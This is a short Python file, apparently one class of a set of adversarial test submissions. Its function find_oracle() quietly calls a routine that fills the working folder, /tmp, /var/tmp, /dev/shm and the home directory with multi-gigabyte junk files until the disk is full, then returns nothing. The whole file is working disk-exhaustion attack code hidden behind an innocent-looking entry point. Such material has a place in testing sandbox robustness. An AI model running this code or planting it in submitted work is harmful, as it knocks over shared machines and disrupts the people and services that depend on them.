# Class 10: fill every writable folder (working folder, /tmp, /var/tmp, /dev/shm, home) until it is full.
import os

CHUNK = b"\0" * (1 << 22)


def _fill():
    for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        for i in range(2048):  # up to 8 GiB per folder
            try:
                with open(os.path.join(folder, f"dlfs-attack-@@TOKEN@@-fill-{i}"), "wb") as fh:
                    fh.write(CHUNK)
            except OSError:
                break



def find_oracle():
    _fill()
    return None
